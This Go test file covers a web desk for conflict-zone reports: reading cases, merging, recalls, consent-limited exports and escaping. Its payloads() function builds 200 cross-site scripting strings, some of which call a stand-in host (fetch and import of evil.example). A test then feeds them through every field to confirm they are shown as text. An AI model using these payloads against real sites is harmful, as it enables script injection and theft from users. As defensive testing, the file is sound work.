package page

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"bulkhead/desk"
	"bulkhead/phrase"
	"bulkhead/report"
	"bulkhead/report/export"
	"bulkhead/report/place"
	"bulkhead/report/seal"
)

// has fails where a page lacks one of the texts.
func has(t *testing.T, page string, texts ...string) {
	t.Helper()
	page = html.UnescapeString(page)
	for _, text := range texts {
		if !strings.Contains(page, text) {
			t.Errorf("the page does not say %q", text)
		}
	}
}

// Promise: what a writer reported stands in the inbox and on its case's page in words,
// and a person's question finds its way back to the writer.
func TestAReportIsReadAndAsked(t *testing.T) {
	o := newOffice(t, nil)
	w, name, of := o.send(hospital(t))
	b := o.begin()
	has(t, b.page("/"), "1 case", "Hospital", "Protected site", "severe", "15.612° N, 32.535° E (a cell of 100 m)", "Clinic by the old bridge", "Two wards work.", "1 not opened", string(of))
	page := b.page("/case/" + string(of))
	has(t, page, "Hospital", "working in part", "hard", "120", "seen", "sure", "telling the parties to the conflict, so that it is spared, and publishing what is cleared",
		"since Wed 4 Mar 2026, the six hours from 06:00 UTC", "The generator runs at night.", "Told the writer: at the desk", "72 %", "Whether two reports come from two people is not known", "A report came.")
	if strings.Contains(b.page("/"), "not opened") {
		t.Error("a case that a person has opened is still shown as not opened")
	}
	b.does("/case/"+string(of)+"/ask", "report", string(name), "text", "Is the east gate open?", "keep", "14")
	has(t, b.page("/case/"+string(of)), "Is the east gate open?", "Question 3", "waits to leave")
	var asked *seal.Reply
	out, err := o.desk.Outgoing(100)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range out {
		r, err := seal.OpenReply(&w.key, w.id, p.Packet)
		if err != nil {
			t.Fatal(err)
		}
		if r.Word == seal.SaysQuestion {
			asked = r
		}
		if err := o.desk.Sent(p.Number); err != nil {
			t.Fatal(err)
		}
	}
	if asked == nil || asked.Text != "Is the east gate open?" || asked.Keep != 14 {
		t.Fatal("the question has not left as it was typed")
	}
	o.take(report.Letter{What: report.AnAnswer, Key: w.key, ID: w.id, Revision: 2, Answers: asked.Number, Text: "Yes, until noon."})
	has(t, b.page("/case/"+string(of)), "Yes, until noon.", fmt.Sprint("answer to ", asked.Number), "on its way")
	b.does("/case/"+string(of)+"/close", "report", string(name), "text", "Thank you.")
	if w := b.post("/case/"+string(of)+"/ask", "report", string(name), "text", "One more?"); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "No way back is open") {
		t.Errorf("a reply after the end answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
}

// Promise: the reason of a suggestion stands beside it in words; a person merges, and
// parts again.
func TestAPersonMergesAndParts(t *testing.T) {
	o := newOffice(t, nil)
	_, _, first := o.send(hospital(t))
	near := hospital(t)
	near.Where = cell(t, 15.6133, 32.5345, place.HundredMetres)
	near.How = report.Told
	_, second, other := o.send(near)
	far := hospital(t)
	far.Where = cell(t, 15.9, 32.5345, place.HundredMetres)
	_, _, third := o.send(far)
	b := o.begin()
	page := b.page("/case/" + string(first))
	has(t, page, string(other), "m apart; one is known to ±", "one such thing per 10 km² is assumed: 99 % that both are one.")
	if strings.Contains(page, string(third)) {
		t.Error("a case that lies 30 km away is suggested")
	}
	b.does("/case/"+string(first)+"/merge", "from", string(other))
	has(t, b.page("/case/"+string(first)), "2 reports", "Case "+string(other)+" was merged into it.", string(second))
	if w := b.get("/case/" + string(other)); w.Code != http.StatusNotFound {
		t.Errorf("a case that went into another answers %d", w.Code)
	}
	to := b.does("/case/"+string(first)+"/part", "report", string(second))
	has(t, b.page(to), "Parted: this is its own case.", string(second))
	if w := b.post("/case/"+string(first)+"/part", "report", string(second)); w.Code != http.StatusConflict && w.Code != http.StatusNotFound {
		t.Errorf("parting what is no part answers %d", w.Code)
	}
	hazard := hospital(t)
	hazard.Kind, hazard.Type, hazard.State, hazard.People = report.Hazard, 1, 1, 0
	_, _, mine := o.send(hazard)
	if w := b.post("/case/"+string(first)+"/merge", "from", string(mine)); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "Cases of two kinds are not one thing.") {
		t.Errorf("merging two kinds answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
}

// Promise: what has to be taken back can be, from the page alone: it says to whom it went,
// each alert's readers get their cancel, and it is not taken for done before.
func TestARecallIsCarriedOutFromThePage(t *testing.T) {
	o := newOffice(t, nil)
	w, _, of := o.send(hospital(t))
	b := o.begin()
	at := "/case/" + string(of)
	b.does(at+"/clear", "text", "A hospital.", "type", "1")
	for _, readers := range []string{"Mine clearance", "Convoy & cooks"} {
		if r := b.post(at+"/export", "format", "cap", "audience", "1", "restriction", readers); r.Code != http.StatusOK {
			t.Fatalf("an alert answers %d", r.Code)
		}
	}
	b.post(at+"/export", "format", "hxl", "audience", "1", "restriction", "Water team")
	b.does(at+"/notify", "to", "The liaison officer", "audience", "1", "by", "its director")
	o.take(report.Letter{What: report.AWithdrawal, Key: w.key, ID: w.id, Revision: 2, Why: report.NotSafe})
	cancels := regexp.MustCompile(`<form method="post" action="(/case/[a-z2-7]+/export)">((?:<input type="hidden"[^>]*>)+)<button>Cancel these alerts`)
	for _, page := range []string{at, "/recalls"} {
		shown := b.page(page)
		has(t, shown, "Mine clearance", "Convoy & cooks", "Water team", "The liaison officer")
		if n := len(cancels.FindAllString(shown, -1)); n != 2 {
			t.Errorf("%s has %d cancels, want 2", page, n)
		}
	}
	has(t, b.page(at), "Exported. <bdi>Water team")
	if r := b.post(at + "/recalled"); r.Code != http.StatusConflict || !strings.Contains(r.Body.String(), "An alert of this case was not cancelled") {
		t.Errorf("it is taken for taken back: %d", r.Code)
	}
	for _, m := range cancels.FindAllStringSubmatch(b.page("/recalls"), -1) {
		var pairs []string
		for _, f := range regexp.MustCompile(`name="([^"]+)" value="([^"]*)"`).FindAllStringSubmatch(m[2], -1) {
			pairs = append(pairs, f[1], html.UnescapeString(f[2]))
		}
		r := b.post(m[1], pairs...)
		if r.Code != http.StatusOK || export.CheckCAP(r.Body.Bytes()) != nil || !strings.Contains(r.Body.String(), "<msgType>Cancel</msgType>") {
			t.Errorf("a cancel answers %d: %s", r.Code, wrongOf(r.Body.String()))
		}
	}
	b.does(at + "/recalled")
	has(t, b.page("/recalls"), "Nothing has to be taken back.")
}

// Promise: of place and time nothing leaves but what a person wrote and chose: the writer's
// own name of a place does not, a place can leave more coarsely than it came, a time by the
// day or not at all; and what was not on the person's screen is not cleared.
func TestPlaceAndTimeLeaveAsAPersonChose(t *testing.T) {
	o := newOffice(t, nil)
	w, _, of := o.send(hospital(t))
	b := o.begin()
	at := "/case/" + string(of)
	page := b.page(at)
	seen := regexp.MustCompile(`name="seen" value="([^"]+)"`).FindStringSubmatch(page)
	if seen == nil || !strings.Contains(page, `name="where-name" maxlength="80" value=""`) {
		t.Fatal("the form says not what it was made of, or has the writer's own name in it")
	}
	leaves := func() string {
		t.Helper()
		r := b.post(at+"/export", "format", "geojson", "audience", "2")
		if r.Code != http.StatusOK {
			t.Fatalf("an export answers %d: %s", r.Code, wrongOf(r.Body.String()))
		}
		return r.Body.String()
	}
	b.does(at+"/clear", "text", "A hospital.", "type", "1", "seen", seen[1])
	if out := leaves(); strings.Contains(out, "old bridge") || !strings.Contains(out, "32.5345") || !strings.Contains(out, "T") {
		t.Errorf("as it stands it leaves as %s", out)
	}
	b.does(at+"/clear", "text", "A hospital.", "type", "1", "where-name", "Clinic 4", "where-exact", "1", "when", "day")
	if out := leaves(); !strings.Contains(out, "Clinic 4") || strings.Contains(out, "32.53") || strings.Contains(out, "15.61") || strings.Contains(out, "T06") || strings.Contains(out, "T12") {
		t.Errorf("coarser it leaves as %s", out)
	}
	if r := b.post(at+"/clear", "text", "A hospital.", "type", "1", "where-exact", "3"); r.Code != http.StatusConflict {
		t.Errorf("finer than the form offers answers %d", r.Code)
	}
	b.does(at+"/clear", "text", "A hospital.", "type", "1", "where-name", "", "where-exact", "0", "when", "none")
	if out := leaves(); !strings.Contains(out, `"geometry":null`) || strings.Contains(out, "Clinic") || strings.Contains(out, "2026-03-04") {
		t.Errorf("without place and time it leaves as %s", out)
	}
	b.does(at + "/unclear")
	seen = regexp.MustCompile(`name="seen" value="([^"]+)"`).FindStringSubmatch(b.page(at))
	r := hospital(t)
	r.ID, r.Revision, r.Where.Name = w.id, 2, "Another place"
	o.take(report.LetterOf(r, w.key))
	if r := b.post(at+"/clear", "text", "A hospital, typed.", "type", "1", "seen", seen[1]); r.Code != http.StatusConflict || !strings.Contains(r.Body.String(), "Nothing was cleared") || !strings.Contains(r.Body.String(), "A hospital, typed.") {
		t.Errorf("clearing what was not shown answers %d", r.Code)
	}
	if c, err := o.desk.Case(of); err != nil || c.Item != nil {
		t.Error("what was not shown is cleared")
	}
}

// Promise: nothing leaves but what a person has cleared, in the words of that person, and
// not to whom its writers did not allow.
func TestWhatIsClearedLeaves(t *testing.T) {
	o := newOffice(t, nil)
	_, _, of := o.send(hospital(t))
	quiet := hospital(t)
	quiet.Consent, quiet.Where = 0, cell(t, 16.2, 33, place.OneKilometre)
	_, _, closed := o.send(quiet)
	b := o.begin()
	at := "/case/" + string(of)
	if w := b.post(at+"/export", "format", "geojson", "audience", "1", "restriction", "Mine clearance"); w.Code != http.StatusConflict {
		t.Errorf("an export of what is not cleared answers %d", w.Code)
	}
	if w := b.post(at+"/clear", "text", "x", "type", "1", "people", "many"); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "A field holds what it cannot hold") || !strings.Contains(w.Body.String(), `value="many"`) {
		t.Errorf("a number that is none answers %d", w.Code)
	}
	b.does(at+"/clear", "text", "A hospital works in part.", "type", "1", "state", "2", "access", "2", "severity", "3", "people", "120")
	has(t, b.page(at), "Cleared for export.")
	w := b.post(at+"/export", "format", "geojson", "audience", "2")
	if w.Code != http.StatusOK || w.Header().Get("Content-Disposition") != `attachment; filename="export.geojson"` {
		t.Fatalf("an export answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
	if out := w.Body.String(); !strings.Contains(out, "A hospital works in part.") || strings.Contains(out, "generator") || !json.Valid(w.Body.Bytes()) {
		t.Error("what left is not what was cleared")
	}
	w = b.post(at+"/export", "format", "cap", "audience", "1", "restriction", "Mine clearance", "exercise", "1")
	if w.Code != http.StatusOK || export.CheckCAP(w.Body.Bytes()) != nil || !strings.Contains(w.Body.String(), "<status>Exercise</status>") {
		t.Errorf("an alert answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
	has(t, b.page(at), "GeoJSON, for the parties to the conflict", "CAP 1.2 alert, for partners who are named")
	w = b.post("/export", "format", "hxl", "audience", "3")
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "#geo+lat") {
		t.Errorf("the export of all answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
	// Without consent neither the parties nor everybody get it.
	at = "/case/" + string(closed)
	b.does(at+"/clear", "text", "A clinic.", "type", "2", "severity", "1")
	for _, audience := range []string{"2", "3"} {
		for _, target := range []string{at + "/export", "/export"} {
			want := "The writers have not allowed this"
			if target == "/export" {
				want = "may not be for these readers"
			}
			if w := b.post(target, "format", "geojson", "audience", audience); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), want) || !strings.Contains(w.Body.String(), string(closed)) {
				t.Errorf("%s to audience %s without consent answers %d: %s", target, audience, w.Code, wrongOf(w.Body.String()))
			}
		}
	}
	if w := b.post("/export", "format", "geojson", "audience", "3", "skip", "1"); w.Code != http.StatusOK || !strings.Contains(w.Body.String(), string(of)) || strings.Contains(w.Body.String(), string(closed)) {
		t.Errorf("the export of what may be for everybody answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
	if w := b.post("/export", "format", "geojson", "audience", "1"); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "names them in one line") {
		t.Errorf("an export for nobody answers %d", w.Code)
	}
	// Whom it was told to is noted with whose consent.
	at = "/case/" + string(of)
	b.does(at+"/notify", "to", "Deconfliction office", "audience", "2", "by", "The hospital's director")
	has(t, b.page(at), "Notified", "Deconfliction office", "The hospital's director")
	if w := b.post(at+"/notify", "to", "", "audience", "2", "by", "somebody"); w.Code != http.StatusConflict {
		t.Errorf("telling nobody answers %d", w.Code)
	}
}

// Promise: a reply that was refused is still in its form.
func TestWhatWasTypedStays(t *testing.T) {
	o := newOffice(t, nil)
	_, name, of := o.send(hospital(t))
	b := o.begin()
	if r := b.post("/case/"+string(of)+"/ask", "report", string(name), "text", "Is the gate open?", "keep", "99"); r.Code != http.StatusConflict || !strings.Contains(r.Body.String(), ">Is the gate open?</textarea>") {
		t.Errorf("a reply that was refused answers %d, without what was typed", r.Code)
	}
}

// Promise: a person sets states, and erases for good only what was asked for twice.
func TestStatesAndErasing(t *testing.T) {
	o := newOffice(t, nil)
	_, name, of := o.send(hospital(t))
	_, _, other := o.send(hospital(t))
	calm := hospital(t)
	calm.Text = "Nothing new."
	_, _, third := o.send(calm)
	b := o.begin()
	at := "/case/" + string(of)
	b.does(at+"/merge", "from", string(third)) // the case outlives the report that is erased
	for _, state := range []string{"checking", "confirmed", "closed", "new"} {
		b.does(at+"/state", "state", state)
		if c, err := o.desk.Case(of); err != nil || c.State.String() != state {
			t.Errorf("the state is not %s: %v", state, err)
		}
	}
	for _, state := range []string{"", "notified", "9", "gone"} {
		if w := b.post(at+"/state", "state", state); w.Code != http.StatusConflict {
			t.Errorf("state %q answers %d", state, w.Code)
		}
	}
	b.does(at+"/observed", "yes", "1")
	b.does(at+"/public", "since", "2026-03-04")
	has(t, b.page(at), `value="2026-03-04"`, "Nobody of the desk has seen it")
	if w := b.post(at+"/public", "since", "yesterday"); w.Code != http.StatusConflict {
		t.Errorf("a day that is none answers %d", w.Code)
	}
	if w := b.post(at+"/erase", "report", string(name)); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "cannot be brought back") {
		t.Errorf("erasing without a second word answers %d", w.Code)
	}
	if w := b.post("/case/"+string(other)+"/erase", "report", string(name), "sure", "1"); w.Code != http.StatusNotFound && w.Code != http.StatusConflict {
		t.Errorf("erasing another case's report answers %d", w.Code)
	}
	has(t, b.page(at), "The generator runs at night.")
	w := b.post(at+"/erase", "report", string(name), "sure", "1")
	if w.Code != http.StatusSeeOther {
		t.Fatalf("erasing answers %d: %s", w.Code, wrongOf(w.Body.String()))
	}
	if page := b.page(at); strings.Contains(page, "generator") || !strings.Contains(page, "Nothing new.") {
		t.Error("what was erased is shown, or more than that is gone")
	}
}

// Promise: filters show what they say, and what they do not understand they leave out and
// say so.
func TestFilters(t *testing.T) {
	o := newOffice(t, nil)
	_, _, site := o.send(hospital(t))
	need := hospital(t)
	need.Kind, need.Type, need.State, need.Severity, need.Where = report.Need, 1, 1, report.Minor, place.Place{Name: "Under the bridge"}
	_, _, want := o.send(need)
	b := o.begin()
	for q, shown := range map[string][2]bool{
		"":                                       {true, true},
		"?kind=site":                             {true, false},
		"?kind=need":                             {false, true},
		"?severity=3":                            {true, false},
		"?state=new":                             {true, true},
		"?state=closed":                          {false, false},
		"?how=1":                                 {true, true},
		"?how=3":                                 {false, false},
		"?unread=1":                              {true, true},
		"?waiting=1":                             {false, false},
		"?unplaced=1":                            {false, true},
		"?age=day":                               {true, true},
		"?south=15&west=32&north=16&east=33":     {true, false},
		"?south=-10&west=170&north=16&east=-170": {false, false},
		"?kind=site&unplaced=1":                  {false, false},
		"?kind=soldier":                          {true, true},
		"?south=15":                              {true, true},
		"?south=NaN&west=0&north=1&east=1":       {true, true},
	} {
		page := b.page("/" + q)
		for i, name := range []desk.Name{site, want} {
			if got := strings.Contains(page, string(name)); got != shown[i] {
				t.Errorf("%q shows case %d: %v, want %v", q, i, got, shown[i])
			}
		}
		bad := strings.Contains(page, "A part of the filter was not understood")
		if wantBad := q == "?kind=soldier" || q == "?south=15" || strings.Contains(q, "NaN"); bad != wantBad {
			t.Errorf("%q is said to be not understood: %v", q, bad)
		}
	}
	for i := range 60 {
		r := hospital(t)
		r.Where = cell(t, float64(i)-30, 10, place.TenKilometres)
		o.send(r)
	}
	page := b.page("/?kind=site")
	has(t, page, "61 cases", "1 to 50")
	next := regexp.MustCompile(`href="([^"]+)" rel="next"`).FindStringSubmatch(page)
	if next == nil {
		t.Fatal("61 cases are on one page")
	}
	has(t, b.page(html.UnescapeString(next[1])), "51 to 61", "Protected site")
	if s := regexp.MustCompile(`/case/[a-z2-7]{10}`).FindAllString(b.page(html.UnescapeString(next[1])), -1); len(s) != 11 {
		t.Errorf("the second page has %d cases, want 11", len(s))
	}
}

// Promise: the map gets clusters of its view, each with where it leads, and nothing of a
// case but kind, severity and cell.
func TestTheMapsData(t *testing.T) {
	o := newOffice(t, nil)
	_, _, alone := o.send(hospital(t))
	for i := range 40 {
		r := hospital(t)
		r.Where = cell(t, 48.8+float64(i%7)/500, 2.3+float64(i/7)/500, place.HundredMetres)
		r.Kind, r.Type, r.State = report.Need, 1, 1
		o.send(r)
	}
	b := o.begin()
	var got struct {
		Clusters []mapCluster
		Says     string
	}
	view := func(q string) {
		t.Helper()
		w := b.get("/map/view?" + q)
		if w.Code != http.StatusOK || strings.Contains(w.Body.String(), "generator") {
			t.Fatalf("%s answers %d", q, w.Code)
		}
		got.Clusters = nil
		if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
			t.Fatal(err)
		}
	}
	view("south=-80&west=-180&north=80&east=180&zoom=2")
	total := 0
	for _, c := range got.Clusters {
		total += c.Count
		if c.Count == 1 && (c.Link != "/case/"+string(alone) || c.Kind != "site" || c.Reach < 70 || c.Reach > 90) {
			t.Errorf("the one case is %+v", c)
		}
		if c.Count > 1 {
			page := b.page(c.Link)
			has(t, page, fmt.Sprint(c.Count, " cases"))
		}
	}
	if total != 41 || got.Says != "41 cases in this part" || len(got.Clusters) != 2 {
		t.Errorf("%d cases in %d clusters: %q", total, len(got.Clusters), got.Says)
	}
	view("south=15&west=32&north=16&east=33&zoom=12&kind=site")
	if len(got.Clusters) != 1 || got.Clusters[0].Lat != 15.612 || got.Clusters[0].Lon != 32.535 {
		t.Errorf("the map's view has %+v", got.Clusters)
	}
	for _, q := range []string{"", "zoom=3", "south=1&west=1&north=0&east=2&zoom=3", "south=0&west=0&north=1&east=1&zoom=99", "south=0&west=0&north=1&east=1&zoom=-1", "south=0&west=0&north=1&east=1e9&zoom=3"} {
		if w := b.get("/map/view?" + q); w.Code != http.StatusBadRequest {
			t.Errorf("%q answers %d", q, w.Code)
		}
	}
	var d drawing
	if err := json.Unmarshal(b.get("/map/outlines").Body.Bytes(), &d); err != nil || len(d.Land) < 1000 || len(d.Borders) < 300 {
		t.Errorf("the outlines are %d and %d lines: %v", len(d.Land), len(d.Borders), err)
	}
	if w := b.get("/map/detail.pmtiles"); w.Code != http.StatusNotFound {
		t.Errorf("a file that nobody gave answers %d", w.Code)
	}
}

// Promise: the operator's own file is served by ranges, as it is.
func TestTheOperatorsFileIsServedByRanges(t *testing.T) {
	file := strings.NewReader("PMTiles and more")
	o := newOffice(t, func(o *Options) { o.Detail, o.DetailSize = file, file.Size() })
	b := o.begin()
	w := o.ask("GET", "/map/detail.pmtiles", func(r *http.Request) {
		r.Header.Set("Cookie", b.cookie)
		r.Header.Set("Range", "bytes=3-6")
	})
	if w.Code != http.StatusPartialContent || w.Body.String() != "iles" || w.Header().Get("Cache-Control") != "no-store" {
		t.Errorf("a range answers %d with %q", w.Code, w.Body)
	}
}

// payloads are 200 texts that would act in a page if they were not shown as texts.
func payloads() (all []string) {
	bodies := []string{`alert(1)`, `fetch("//evil.example")`, `parent.x=1`, `import("//evil.example/x.js")`}
	forms := []string{
		`<script>%s</script>`, `"><script>%s</script>`, `'><svg onload=%s>`, `<img src=x onerror=%s>`, `" onmouseover="%s`, `' onfocus='%s' autofocus='`, `javascript:%s`, `<a href="javascript:%s">x</a>`,
		`</textarea><script>%s</script>`, `</title><script>%s</script>`, `</style><script>%s</script>`, `<iframe srcdoc="<script>%s</script>">`, `<form action=//evil.example><button>%s`, `<base href=//evil.example>%s`,
		`<meta http-equiv=refresh content="0;url=javascript:%s">`, `<object data=javascript:%s>`, `<link rel=stylesheet href=//evil.example>%s`, `{{%s}}`, `{{template "key" .}}%s`, `${%s}`, `<!--><script>%s</script>-->`, `<math><mtext></p><script>%s</script>`,
		`<body onload=%s>`, `<input autofocus onfocus=%s>`, `<details open ontoggle=%s>`, `<video><source onerror=%s>`, `<svg><animate onbegin=%s attributeName=x>`, `&lt;script&gt;%s&lt;/script&gt;`, "\u202e<script>%s</script>", "`-%s-`",
		`<style>@import "//evil.example/%s"</style>`, `<div style="background:url(//evil.example/%s)">`, `<marquee onstart=%s>`, `<select onfocus=%s autofocus>`, `<embed src=javascript:%s>`, `%%3Cscript%%3E%s%%3C/script%%3E`, `<ScRiPt>%s</ScRiPt>`, `<script/x>%s</script>`,
		`<a xlink:href="javascript:%s">`, `<x onclick=%s>y`, `<img/src/onerror=%s>`, `"/><img src=//evil.example/?%s>`, `<audio src onloadstart=%s>`, `<isindex type=image src=1 onerror=%s>`, `<noscript><p title="</noscript><script>%s</script>">`, `]]><script>%s</script>`,
		`<template><script>%s</script></template>`, `<slot onslotchange=%s>`, `<frameset onload=%s>`, `<bdi onclick=%s>`,
	}
	for _, f := range forms {
		for _, b := range bodies {
			all = append(all, fmt.Sprintf(f, b))
		}
	}
	return all
}

// The elements and attributes that pages are made of. No script stands in a page but by
// its address here.
var (
	element    = regexp.MustCompile(`<([^<>]*)>`)
	attribute  = regexp.MustCompile(`^\s+([a-z-]+)(?:="([^"]*)")?`)
	elements   = strings.Fields("!DOCTYPE html head meta title link script body a header nav form input button main p h1 h2 h3 ol ul li span bdi b div details summary fieldset legend label select option textarea section dl dt dd noscript")
	attributes = strings.Fields("lang dir charset name content rel href src defer class id aria-label aria-labelledby aria-current method action type value checked selected role inputmode size autocomplete maxlength rows min max required formaction tabindex open html")
	addresses  = strings.Fields("href src action formaction")
)

// active returns what of a page is no element or attribute that a page has, or leads
// somewhere else; "" if there is nothing.
func active(page string) string {
	for _, m := range element.FindAllStringSubmatch(page, -1) {
		name, rest, _ := strings.Cut(strings.TrimPrefix(m[1], "/"), " ")
		if !slices.Contains(elements, name) {
			return m[0]
		}
		for rest = " " + rest; strings.TrimSpace(rest) != ""; {
			a := attribute.FindStringSubmatch(rest)
			if a == nil || !slices.Contains(attributes, a[1]) && !strings.HasPrefix(a[1], "data-") {
				return m[0]
			}
			if to := html.UnescapeString(a[2]); slices.Contains(addresses, a[1]) && (!strings.HasPrefix(to, "/") && to != "#main" || strings.HasPrefix(to, "//")) {
				return m[0]
			}
			rest = rest[len(a[0]):]
		}
	}
	if bare := element.ReplaceAllString(page, ""); strings.ContainsAny(bare, "<>") {
		return "a bracket that is not escaped"
	}
	return ""
}

// Promise: whatever stands in whichever field, of a letter, of a reply or of a form, is
// shown as text: 200 payloads in every one.
func TestNothingThatIsShownActs(t *testing.T) {
	all := payloads()
	if len(all) < 200 {
		t.Fatalf("%d payloads, want 200", len(all))
	}
	// The control: the search finds each of the forms that act by themselves.
	found := 0
	for _, p := range all {
		if active(`<p>`+p+`</p><input value="`+p+`"><a href="`+p+`">`) != "" {
			found++
		}
	}
	if found < len(all) {
		t.Fatalf("of %d payloads only %d are found where they are not escaped", len(all), found)
	}
	o := newOffice(t, nil)
	b := o.begin()
	shown := 0
	look := func(target string) {
		t.Helper()
		page := b.get(target).Body.String()
		if m := active(page); m != "" {
			t.Errorf("%s has %q", target, m)
		}
		shown += strings.Count(html.UnescapeString(page), "evil.example") + strings.Count(html.UnescapeString(page), "alert(1)")
	}
	type about struct{ name, of desk.Name }
	var cases []about
	for i, p := range all {
		r := hospital(t)
		if !place.Plain(p, false) { // a letter with it is refused before it is kept
			r.Text = "refused"
		} else {
			r.Text, r.Where.Name = p, clip(p, place.MaxName)
		}
		r.Where.Cell = cell(t, float64(i%80), float64(i%150), place.TenKilometres).Cell
		_, name, of := o.send(r)
		cases = append(cases, about{name, of})
	}
	for i, p := range all {
		c := cases[i]
		at := "/case/" + string(c.of)
		line := clip(p, 150)
		b.post(at+"/ask", "report", string(c.name), "text", p)
		b.post(at+"/notify", "to", line, "audience", "2", "by", line)
		b.post(at+"/clear", "text", p, "type", "1")
		look(at + "?done=" + url.QueryEscape(p))
		if i%10 == 0 { // what is typed where nothing is kept
			w := b.post(at+"/clear", "text", p, "people", p)
			if m := active(w.Body.String()); m != "" {
				t.Errorf("a form that was refused has %q", m)
			}
			for _, target := range []string{"/case/" + url.PathEscape(p), "/" + url.PathEscape(p), "/?kind=" + url.QueryEscape(p), "/?south=" + url.QueryEscape(p), "/map?kind=" + url.QueryEscape(p), "/static/" + url.PathEscape(p)} {
				look(target)
			}
			for _, f := range []string{"format", "audience", "restriction"} {
				w := b.post("/export", "format", "geojson", "audience", "1", f, p)
				if m := active(w.Body.String()); m != "" && strings.HasPrefix(w.Header().Get("Content-Type"), "text/html") {
					t.Errorf("an export that was refused has %q", m)
				}
			}
		}
	}
	for from := 0; from < len(all); from += pageSize {
		look(fmt.Sprint("/?from=", from))
	}
	look("/recalls")
	if shown < 1000 {
		t.Errorf("payloads were seen %d times: the walk is broken", shown)
	}
}

// clip cuts a text to at most so many bytes, by whole characters.
func clip(s string, most int) string {
	for len(s) > most {
		r := []rune(s)
		s = string(r[:len(r)-1])
	}
	return s
}

// Promise: every word on a page comes from a catalogue, and a page in a language that is
// written from right to left says so.
func TestThePagesAreMarked(t *testing.T) {
	say := phrase.Marked(time.UTC)
	o := newOffice(t, func(o *Options) { o.Say = say })
	r := hospital(t)
	r.Text, r.Where.Name = "", ""
	w, name, of := o.send(r)
	_, second, other := o.send(r)
	_, _, _ = o.send(r)
	b := o.begin()
	at := "/case/" + string(of)
	b.page(at)
	b.does(at+"/merge", "from", string(other))
	b.does(at+"/state", "state", "checking")
	b.does(at+"/observed", "yes", "1")
	b.does(at+"/clear", "text", "", "type", "1")
	b.post(at+"/export", "format", "geojson", "audience", "2")
	o.take(report.Letter{What: report.AWithdrawal, Key: w.key, ID: w.id, Revision: 3, Why: report.Over})
	pages := map[string]string{"a refusal": b.post(at+"/erase", "report", string(name)).Body.String(), "nothing": b.get("/nothing").Body.String()}
	for _, target := range []string{"/", "/?kind=x", "/?withdrawn=1", at, at + "?done=part", "/map", "/export", "/recalls", "/case/aaaaaaaaaa"} {
		pages[target] = b.get(target).Body.String()
	}
	known := []string{string(of), string(other), string(name), string(second)}
	for what, page := range pages {
		_, body, _ := strings.Cut(page, "<body>")
		body = html.UnescapeString(regexp.MustCompile(`<[^>]*>`).ReplaceAllString(body, "\n"))
		for _, word := range phrase.Unmarked(body) {
			if !regexp.MustCompile(`^[a-z2-7]{10}$`).MatchString(word) {
				t.Errorf("%s: %q comes from no catalogue (%v)", what, word, known)
			}
		}
		if !phrase.HasMarks(body) {
			t.Errorf("%s: nothing is marked", what)
		}
	}
	o = newOffice(t, func(o *Options) { o.Say = phrase.RightToLeft(time.UTC) })
	if page := o.begin().page("/"); !strings.Contains(page, ` dir="rtl"`) {
		t.Error("a page from right to left does not say so")
	}
}
